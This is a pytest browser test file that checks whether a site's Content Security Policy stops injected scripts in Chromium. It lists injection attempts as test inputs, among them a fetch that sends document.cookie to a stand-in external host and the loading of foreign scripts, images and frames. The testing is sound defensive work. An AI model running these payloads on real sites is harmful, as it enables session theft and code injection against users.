"""The content security policy in a real Chromium: it stops what an injected script would do.

test_pages.py uses every page under it, test_counted.py takes files along: none breaks it.
"""

import pytest

from tests.browser.conftest import PATIENCE, painted, settle

LISTENER = """document.addEventListener('securitypolicyviolation', event =>
    window.violated(event.violatedDirective + ' ' + event.blockedURI))"""


@pytest.fixture(scope="module")
def window(chromium):
    """One window in which the browser's own reports of violations are collected."""
    context = chromium.new_context(viewport={"width": 1440, "height": 900})
    context.set_default_timeout(PATIENCE)
    found: list[str] = []
    context.expose_function("violated", lambda text: found.append(text))
    context.add_init_script(LISTENER)
    page = context.new_page()
    page.on(
        "console",
        lambda message: (
            found.append(message.text) if "Content Security Policy" in message.text else None
        ),
    )
    yield page, found
    context.close()


@pytest.mark.parametrize(
    "attempt",
    [
        (
            "document.head.append(Object.assign("
            "document.createElement('script'), {textContent: 'window.ran = 1'}))"
        ),
        (
            "document.head.append(Object.assign("
            "document.createElement('script'), {src: 'https://example.org/x.js'}))"
        ),
        "setTimeout('window.ran = 1')",
        "fetch('https://example.org/?' + document.cookie).catch(() => 0)",
        (
            "document.body.append(Object.assign("
            "document.createElement('img'), {src: 'https://example.org/x.png'}))"
        ),
        (
            "document.body.append(Object.assign("
            "document.createElement('iframe'), {src: 'https://example.org/'}))"
        ),
    ],
    ids=[
        "inline script",
        "foreign script",
        "eval",
        "sending data away",
        "foreign image",
        "foreign frame",
    ],
)
def test_the_policy_stops_what_an_injected_script_would_do(window, address, attempt):
    page, found = window
    if not page.url.startswith(f"{address}/method"):
        page.goto(f"{address}/method?lang=en")
        settle(page)
    found.clear()
    page.evaluate(f"() => {{ {attempt} }}")
    for _ in range(100):
        if found:
            break
        painted(page)
    assert found
    assert not page.evaluate("window.ran")
